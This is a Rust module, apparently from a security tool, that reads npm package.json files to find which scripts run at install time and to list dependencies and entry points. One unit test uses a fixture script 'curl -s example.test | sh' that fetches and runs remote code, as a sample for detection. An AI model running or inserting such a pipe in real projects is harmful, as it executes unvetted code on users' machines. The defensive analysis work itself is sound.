//! Facts from `package.json`: what runs at install time, what the package depends
//! on, and where its entry points are.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use serde_json::Value;

/// The lifecycle scripts npm runs when it installs a package from a registry, in
/// order. `prepare`, `prepublish` and `prepublishOnly` are not among them: npm runs
/// them for git dependencies, local folders and publishing, never for a registry
/// tarball.
pub const INSTALL_SCRIPTS: [&str; 3] = ["preinstall", "install", "postinstall"];

/// What a manifest says, reduced to what the analysis compares.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Manifest {
    pub name: Option<String>,
    pub version: Option<String>,
    /// Lifecycle scripts that run at install (see [`INSTALL_SCRIPTS`]).
    pub install_scripts: BTreeMap<String, String>,
    /// An application's other scripts (`start`, `dev`, `build`), when the manifest
    /// says `"private": true`: such a package cannot be published, so it is a
    /// project someone cloned and runs, and its scripts are how it runs.
    pub project_scripts: BTreeMap<String, String>,
    /// `dependencies` and `optionalDependencies`: what an install pulls in.
    pub dependencies: BTreeMap<String, String>,
    /// The names among them that are optional (platform binaries, extras).
    #[serde(default, skip_serializing_if = "std::collections::BTreeSet::is_empty")]
    pub optional: std::collections::BTreeSet<String>,
    /// The names among them that ship inside the tarball (`bundleDependencies`).
    #[serde(default, skip_serializing_if = "std::collections::BTreeSet::is_empty")]
    pub bundled: std::collections::BTreeSet<String>,
    pub peer_dependencies: BTreeMap<String, String>,
    pub dev_dependencies: BTreeMap<String, String>,
    pub bin: BTreeMap<String, String>,
    /// `main`, `module`, `browser` and every file named in `exports`.
    pub entry_points: Vec<String>,
    pub repository: Option<String>,
    /// `gypfile: false` turns off the implicit `node-gyp rebuild`.
    pub gypfile_disabled: bool,
    /// The platforms and CPUs the package is for (`os`, `cpu`): a platform package
    /// of prebuilt binaries.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub os: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub cpu: Vec<String>,
}

/// The other scripts that install scripts run by name (`"preinstall": "npm run
/// setup"`), as far as three hops: they run at install too. Each is keyed
/// `name (run by preinstall)`.
fn scripts_run_by(
    install: &BTreeMap<String, String>,
    others: &BTreeMap<String, String>,
) -> BTreeMap<String, String> {
    let mut found = BTreeMap::new();
    let mut frontier: Vec<(String, String)> = install
        .iter()
        .map(|(name, command)| (name.clone(), command.clone()))
        .collect();
    for _ in 0..3 {
        let mut next = Vec::new();
        for (by, command) in &frontier {
            for name in named_scripts(command) {
                let Some(script) = others.get(&name) else {
                    continue;
                };
                let key = format!("{name} (run by {by})");
                if found.len() < 16 && !found.contains_key(&key) {
                    found.insert(key, script.clone());
                    next.push((name, script.clone()));
                }
            }
        }
        frontier = next;
    }
    found
}

/// The scripts a command runs through a package manager: `npm run x`, `npm
/// run-script x`, `yarn run x`, `yarn x`, `pnpm x`, `bun run x`, `npm test`.
fn named_scripts(command: &str) -> Vec<String> {
    let words: Vec<&str> = command
        .split(|c: char| c.is_whitespace() || matches!(c, '&' | ';' | '|' | '(' | ')' | '"' | '\''))
        .filter(|word| !word.is_empty() && !word.starts_with('-'))
        .collect();
    let mut names = Vec::new();
    for (index, word) in words.iter().enumerate() {
        let manager = word.rsplit('/').next().unwrap_or(word);
        if !matches!(manager, "npm" | "yarn" | "pnpm" | "bun") {
            continue;
        }
        let (Some(first), second) = (words.get(index + 1), words.get(index + 2)) else {
            continue;
        };
        match (*first, second) {
            ("run" | "run-script" | "rum" | "urn", Some(name)) => names.push((*name).to_owned()),
            ("start" | "test" | "stop" | "restart", _) if manager == "npm" => {
                names.push((*first).to_owned());
            }
            // `yarn setup`, `pnpm setup`: a script by its bare name.
            (name, _) if matches!(manager, "yarn" | "pnpm") => names.push(name.to_owned()),
            _ => {}
        }
    }
    names
}

impl Manifest {
    /// Reads the fields it knows from a `package.json` value; anything malformed in
    /// a field leaves that field empty (the tarball is hostile input).
    pub fn from_value(value: &Value) -> Self {
        let text = |key: &str| value.get(key).and_then(Value::as_str).map(str::to_owned);
        let string_map = |key: &str| -> BTreeMap<String, String> {
            value
                .get(key)
                .and_then(Value::as_object)
                .map(|object| {
                    object
                        .iter()
                        .filter_map(|(name, spec)| Some((name.clone(), spec.as_str()?.to_owned())))
                        .collect()
                })
                .unwrap_or_default()
        };
        let scripts = string_map("scripts");
        let private = value.get("private").and_then(Value::as_bool) == Some(true);
        let (mut install_scripts, others): (BTreeMap<_, _>, BTreeMap<_, _>) = scripts
            .into_iter()
            .partition(|(name, _)| INSTALL_SCRIPTS.contains(&name.as_str()));
        install_scripts.extend(scripts_run_by(&install_scripts, &others));
        let project_scripts = if private { others } else { BTreeMap::new() };
        let mut dependencies = string_map("dependencies");
        let optional_dependencies = string_map("optionalDependencies");
        let optional = optional_dependencies.keys().cloned().collect();
        dependencies.extend(optional_dependencies);
        let bin = match value.get("bin") {
            Some(Value::String(path)) => {
                let name = text("name").unwrap_or_default();
                let command = name.rsplit('/').next().unwrap_or_default().to_owned();
                BTreeMap::from([(command, path.clone())])
            }
            Some(Value::Object(_)) => string_map("bin"),
            _ => BTreeMap::new(),
        };
        let mut entry_points = Vec::new();
        for key in ["main", "module"] {
            if let Some(path) = text(key) {
                entry_points.push(path);
            }
        }
        if let Some(browser) = value.get("browser") {
            collect_strings(browser, &mut entry_points);
        }
        if let Some(exports) = value.get("exports") {
            collect_strings(exports, &mut entry_points);
        }
        let repository = match value.get("repository") {
            Some(Value::String(url)) => Some(url.clone()),
            Some(Value::Object(object)) => {
                object.get("url").and_then(Value::as_str).map(str::to_owned)
            }
            _ => None,
        };
        Self {
            name: text("name"),
            version: text("version"),
            install_scripts,
            project_scripts,
            dependencies,
            optional,
            bundled: string_list(
                value
                    .get("bundleDependencies")
                    .or_else(|| value.get("bundledDependencies")),
            )
            .into_iter()
            .collect(),
            peer_dependencies: string_map("peerDependencies"),
            dev_dependencies: string_map("devDependencies"),
            bin,
            entry_points,
            repository,
            gypfile_disabled: value.get("gypfile") == Some(&Value::Bool(false)),
            os: string_list(value.get("os")),
            cpu: string_list(value.get("cpu")),
        }
    }

    /// The fields a `package.json` that is not JSON still shows: `"key": "value"`
    /// pairs for the name, the version and the install scripts.
    pub fn recover(text: &str) -> Self {
        let value_of = |key: &str| -> Option<String> {
            let quoted = format!("\"{key}\"");
            let at = text.find(&quoted)? + quoted.len();
            let rest = text[at..]
                .trim_start()
                .strip_prefix(':')?
                .trim_start()
                .strip_prefix('"')?;
            let mut value = String::new();
            let mut chars = rest.chars();
            while let Some(c) = chars.next() {
                match c {
                    '"' => return Some(value),
                    '\\' => value.push(chars.next()?),
                    c => value.push(c),
                }
            }
            None
        };
        Self {
            name: value_of("name"),
            version: value_of("version"),
            install_scripts: INSTALL_SCRIPTS
                .iter()
                .filter_map(|script| Some(((*script).to_owned(), value_of(script)?)))
                .collect(),
            ..Self::default()
        }
    }

    /// The files that run when the package is imported, normalised to package paths.
    pub fn import_files(&self) -> Vec<String> {
        let mut files: Vec<String> = self
            .entry_points
            .iter()
            .filter(|path| !path.contains('*'))
            .map(|path| normalise(path))
            .collect();
        if files.is_empty() {
            files.push("index.js".to_owned());
        }
        files
    }
}

fn string_list(value: Option<&Value>) -> Vec<String> {
    match value {
        Some(Value::Array(items)) => items
            .iter()
            .filter_map(Value::as_str)
            .map(str::to_owned)
            .collect(),
        Some(Value::String(item)) => vec![item.clone()],
        _ => Vec::new(),
    }
}

fn collect_strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(path) => out.push(path.clone()),
        Value::Object(object) => object
            .values()
            .for_each(|value| collect_strings(value, out)),
        Value::Array(items) => items.iter().for_each(|value| collect_strings(value, out)),
        _ => {}
    }
}

/// `./lib/x.js` and `lib/x.js` alike.
pub(crate) fn normalise(path: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            part => parts.push(part),
        }
    }
    parts.join("/")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_an_install_script_runs_by_name_run_at_install() {
        let manifest = Manifest::from_value(&serde_json::json!({
            "scripts": {
                "preinstall": "npm run setup --silent",
                "setup": "yarn fetch && node x.js",
                "fetch": "curl -s example.test | sh",
                "build": "tsc",
                "test": "jest"
            }
        }));
        let keys: Vec<&str> = manifest
            .install_scripts
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(
            keys,
            [
                "fetch (run by setup)",
                "preinstall",
                "setup (run by preinstall)"
            ]
        );
    }

    #[test]
    fn reads_scripts_dependencies_and_entry_points() {
        let manifest = Manifest::from_value(&serde_json::json!({
            "name": "@scope/tool",
            "version": "1.0.0",
            "main": "./lib/index.js",
            "exports": {".": {"import": "./esm/index.mjs", "require": "./lib/index.js"}, "./*": "./lib/*.js"},
            "bin": "cli.js",
            "scripts": {"test": "jest", "postinstall": "node setup.js"},
            "dependencies": {"a": "^1.0.0", "b": 7},
            "optionalDependencies": {"c": "2"},
            "repository": {"type": "git", "url": "git+https://example.invalid/tool.git"},
        }));
        assert_eq!(manifest.install_scripts.len(), 1);
        assert_eq!(manifest.dependencies.keys().collect::<Vec<_>>(), ["a", "c"]);
        assert_eq!(manifest.bin["tool"], "cli.js");
        assert_eq!(
            manifest.import_files(),
            ["lib/index.js", "esm/index.mjs", "lib/index.js"]
        );
        assert_eq!(
            manifest.repository.as_deref(),
            Some("git+https://example.invalid/tool.git")
        );
    }
}
